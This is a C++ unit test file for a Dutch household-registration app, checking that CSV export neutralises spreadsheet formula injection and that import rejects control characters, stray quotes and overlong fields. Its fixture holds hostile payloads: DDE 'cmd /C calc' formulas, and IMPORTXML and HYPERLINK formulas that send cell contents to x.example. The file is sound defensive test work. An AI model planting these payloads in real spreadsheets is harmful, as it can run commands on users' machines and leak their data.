// The household CSV against hostile text: formula cells are written as text and read back
// unchanged, control characters, stray quotes and huge fields are refused naming the place.
#include "TestSupport.h"

#include "core/csv/Csv.h"
#include "core/gemeente/Referentiedata.h"
#include "core/huishouden/HuishoudenBulkSchrijver.h"
#include "core/huishouden/HuishoudenRepository.h"
#include "core/import/HuishoudenCsv.h"
#include "core/journaal/Journaal.h"

#include <QHash>

#include <gtest/gtest.h>

using namespace rd;

namespace {

const QDate vandaag(2025, 6, 1);
const QString azcNaam = QStringLiteral("=IMPORTXML(CONCAT(\"http://x.example/?\", A1), \"//a\")");

// A household whose every text field opens with something a spreadsheet would run.
Huishouden vijandig(qint64 azcId)
{
    Huishouden h = test::voorbeeldHuishouden(3000000001, 3, QDate(2025, 2, 1), azcId);
    Persoon &a = h.personen[0];
    a.voornamen = QStringLiteral("=cmd|' /C calc'!A0");
    a.achternaam = QStringLiteral("+1+1");
    a.landHerkomst = QStringLiteral("-2+3");
    a.moedertaal = QStringLiteral("@SUM(A1)");
    a.talen = {QStringLiteral("=1+2"), QStringLiteral("Dari")};
    a.opleiding = QStringLiteral("-cmd|' /C calc'!A0");
    a.werkervaring = QStringLiteral("\t=1");
    a.fysiekeBeperking = QStringLiteral("'=1");
    Persoon &b = h.personen[1];
    b.voornamen = QStringLiteral("-");
    b.achternaam = QStringLiteral("''+SUM(1;2)");
    b.werkervaring = QStringLiteral("\t\t@x\nsecond line");
    Persoon &c = h.personen[2];
    c.voornamen = QStringLiteral("-12");
    c.achternaam = QStringLiteral("@cmd|' /C calc'!A0");
    Huisvestinggesprek g;
    g.datum = QDate(2025, 2, 3);
    g.tolkTaal = QStringLiteral("=DDE(\"cmd\";\"/C calc\";\"!A0\")");
    g.woonbehoefte = QStringLiteral("=HYPERLINK(\"http://x.example/?q=\"&A1,\"click\")");
    g.opleidingswens = QStringLiteral("+cmd|' /C calc'!A0");
    g.werkwens = QStringLiteral("-1e5");
    g.criteria = {{CriteriumSoort::Werk, QStringLiteral("GM0363"), {}, QStringLiteral("=1")}};
    h.gesprek = g;
    return h;
}

bool isFormuleBegin(const QString &cel)
{
    static const QString tekens = QStringLiteral("=+-@\t\r");
    if (cel.isEmpty() || !tekens.contains(cel.at(0)))
        return false;
    bool getal = false;
    cel.mid(1).replace(QLatin1Char(','), QLatin1Char('.')).toDouble(&getal);
    return !(cel.at(0) == QLatin1Char('-') && getal && !cel.contains(QLatin1Char('e')));
}

// Every field a person or the interview holds, to compare households across stores.
QStringList inhoud(const Huishouden &h)
{
    QStringList r;
    for (const Persoon &p : h.personen)
        r << p.vNummer << p.voornamen << p.achternaam << p.geboortedatum.toString(Qt::ISODate)
          << p.geslacht << p.landHerkomst << p.moedertaal << p.talen.join(QLatin1Char('|'))
          << p.opleiding << p.werkervaring << p.bsn << p.fysiekeBeperking
          << QString::number(p.referent) << QString::number(p.nareiziger);
    if (h.gesprek) {
        const Huisvestinggesprek &g = *h.gesprek;
        r << g.datum.toString(Qt::ISODate) << g.tolkTaal << g.woonbehoefte << g.opleidingswens
          << g.werkwens << codeerCriteria(g.criteria);
    }
    r << h.vergunning.toString(Qt::ISODate);
    return r;
}

class HuishoudensCsvInjectieTest : public ::testing::Test
{
protected:
    void SetUp() override
    {
        store = test::openStore(dir.path(QStringLiteral("s.sqlite")));
        ASSERT_TRUE(store);
        auto azc = Referentiedata(*store).voegAzcToe(azcNaam, QStringLiteral("GM0599"));
        ASSERT_TRUE(azc.ok()) << azc.error().toString().toStdString();
        azcId = *azc;
    }

    Result<int> importeer(const QByteArray &bytes)
    {
        const QString path = dir.path(QStringLiteral("in.csv"));
        test::writeFile(path, bytes);
        return importeerHuishoudens(*store, path, vandaag);
    }

    // The header and one valid person on line 2, with `kolom` set to `waarde`.
    static QByteArray eenPersoon(const char *kolom, const QString &waarde)
    {
        QStringList rij;
        for (const QString &k : huishoudenCsvKolommen()) {
            static const QHash<QString, QString> basis{
                {QStringLiteral("huishouden"), QStringLiteral("1000000001")},
                {QStringLiteral("v_nummer"), QStringLiteral("1000000001")},
                {QStringLiteral("referent"), QStringLiteral("1")},
                {QStringLiteral("voornamen"), QStringLiteral("Amina")},
                {QStringLiteral("achternaam"), QStringLiteral("Tesfay")},
                {QStringLiteral("geboortedatum"), QStringLiteral("1990-05-17")},
                {QStringLiteral("geslacht"), QStringLiteral("V")},
                {QStringLiteral("vergunning_datum"), QStringLiteral("2025-03-01")},
                {QStringLiteral("gesprek_datum"), QStringLiteral("2025-03-02")}};
            rij << (k == QLatin1String(kolom) ? waarde : basis.value(k));
        }
        return (csv::line(huishoudenCsvKolommen()) + QLatin1Char('\n') + csv::line(rij) +
                QLatin1Char('\n'))
            .toUtf8();
    }

    void verwachtAfwijzing(const QByteArray &bytes, const QString &waar)
    {
        auto r = importeer(bytes);
        ASSERT_FALSE(r.ok()) << "expected a refusal naming " << waar.toStdString();
        EXPECT_TRUE(r.error().toString().contains(waar)) << r.error().toString().toStdString();
        auto alle = HuishoudenRepository(*store).alle();
        ASSERT_TRUE(alle.ok());
        EXPECT_TRUE(alle->isEmpty()) << "nothing of a refused file is stored";
    }

    test::TempDir dir;
    std::unique_ptr<Store> store;
    qint64 azcId = 0;
};

} // namespace

TEST_F(HuishoudensCsvInjectieTest, FormulaCellsAreWrittenAsTextAndRoundTripByteForByte)
{
    test::voegToe(*store, vijandig(azcId), vandaag);
    const QString eerste = dir.path(QStringLiteral("eerste.csv"));
    ASSERT_TRUE(exporteerHuishoudens(*store, eerste, false).ok());
    const QByteArray bytes = test::fileBytes(eerste);
    for (const char *verwacht :
         {",'=cmd|' /C calc'!A0,", ",'+1+1,", ",'-2+3,", ",'@SUM(A1),", ",'=1+2|Dari,", ",'\t=1,",
          ",''=1,", ",'-,", ",'''+SUM(1;2),", ",-12,", "\"'=HYPERLINK(", ",'-1e5,", "'=IMPORTXML("})
        EXPECT_TRUE(bytes.contains(verwacht)) << verwacht;

    EXPECT_TRUE(bytes.endsWith("\n# journaal,0,\n")) << "the log's head is the last line";
    auto tabel = csv::parse(journaal::zonderCsvKop(bytes), eerste);
    ASSERT_TRUE(tabel.ok()) << tabel.error().toString().toStdString();
    int gezien = 0;
    for (const auto &rij : tabel->rows) {
        for (const QString &cel : rij.fields) {
            EXPECT_FALSE(isFormuleBegin(cel)) << "line " << rij.line << ": " << cel.toStdString();
            gezien += cel.startsWith(QLatin1Char('\'')) ? 1 : 0;
        }
    }
    EXPECT_GE(gezien, 15);

    auto tweede = test::openStore(dir.path(QStringLiteral("tweede.sqlite")));
    ASSERT_TRUE(tweede);
    ASSERT_TRUE(Referentiedata(*tweede).voegAzcToe(azcNaam, QStringLiteral("GM0599")).ok());
    auto n = importeerHuishoudens(*tweede, eerste, vandaag);
    ASSERT_TRUE(n.ok()) << n.error().toString().toStdString();
    const QString opnieuw = dir.path(QStringLiteral("opnieuw.csv"));
    ASSERT_TRUE(exporteerHuishoudens(*tweede, opnieuw, false).ok());
    EXPECT_EQ(test::fileBytes(opnieuw), bytes);

    auto voor = HuishoudenRepository(*store).alle();
    auto na = HuishoudenRepository(*tweede).alle();
    ASSERT_TRUE(voor.ok() && na.ok());
    ASSERT_EQ(na->size(), 1);
    EXPECT_EQ(inhoud(na->at(0)), inhoud(voor->at(0)));
    EXPECT_EQ(inhoud(na->at(0)), inhoud(vijandig(azcId))) << "the text is the text typed";
}

TEST_F(HuishoudensCsvInjectieTest, OldStoreTextWithACarriageReturnIsStillWrittenNeutralised)
{
    // Stored before control characters were refused: written past valideer().
    Huishouden h = vijandig(azcId);
    h.personen[0].werkervaring = QStringLiteral("\r=1");
    ASSERT_TRUE(voegGevalideerdeHuishoudensToe(*store, {h}).ok());
    const QString pad = dir.path(QStringLiteral("oud.csv"));
    ASSERT_TRUE(exporteerHuishoudens(*store, pad, false).ok());
    EXPECT_TRUE(test::fileBytes(pad).contains(",\"'\r=1\","));
}

TEST_F(HuishoudensCsvInjectieTest, ImportRefusesControlCharactersNamingLineAndColumn)
{
    verwachtAfwijzing(eenPersoon("voornamen", QStringLiteral("Ami\x1b[31mna")),
                      QStringLiteral("line 2, voornamen"));
    verwachtAfwijzing(eenPersoon("achternaam", QStringLiteral("Tes\x07")),
                      QStringLiteral("line 2, achternaam"));
    verwachtAfwijzing(eenPersoon("werkervaring", QStringLiteral("nurse\x1b")),
                      QStringLiteral("line 2, werkervaring"));
    verwachtAfwijzing(eenPersoon("talen", QStringLiteral("Dari|Pa\x1bshto")),
                      QStringLiteral("line 2, talen"));
    verwachtAfwijzing(eenPersoon("woonbehoefte", QStringLiteral("ground\x7f floor")),
                      QStringLiteral("line 2, woonbehoefte"));
    auto goed = importeer(eenPersoon("werkervaring", QStringLiteral("nurse\t6 years\nteacher")));
    EXPECT_TRUE(goed.ok()) << "tabs and line breaks are free text";
}

TEST_F(HuishoudensCsvInjectieTest, ImportRefusesLongFieldsNamingThePlace)
{
    verwachtAfwijzing(eenPersoon("voornamen", QString(201, QLatin1Char('a'))),
                      QStringLiteral("line 2, voornamen"));
    verwachtAfwijzing(eenPersoon("werkwens", QString(4001, QLatin1Char('a'))),
                      QStringLiteral("line 2, werkwens"));
    verwachtAfwijzing(eenPersoon("voornamen", QString(csv::maxVeldLengte + 1, QLatin1Char('a'))),
                      QStringLiteral("line 2, column 4"));
}

TEST_F(HuishoudensCsvInjectieTest, ImportRefusesAStrayQuoteNamingLineAndColumn)
{
    QByteArray bytes = eenPersoon("voornamen", QStringLiteral("Amina"));
    bytes.replace(",Amina,", ",Am\"ina,");
    verwachtAfwijzing(bytes, QStringLiteral("line 2, column 4"));
    QByteArray na = eenPersoon("voornamen", QStringLiteral("Amina"));
    na.replace(",Amina,", ",\"Am\"ina,");
    verwachtAfwijzing(na, QStringLiteral("line 2, column 4"));
}

TEST_F(HuishoudensCsvInjectieTest, ImportRefusesAReferencePersonBornAfterThePermit)
{
    verwachtAfwijzing(eenPersoon("geboortedatum", QStringLiteral("2025-03-02")),
                      QStringLiteral("line 2, geboortedatum"));
}
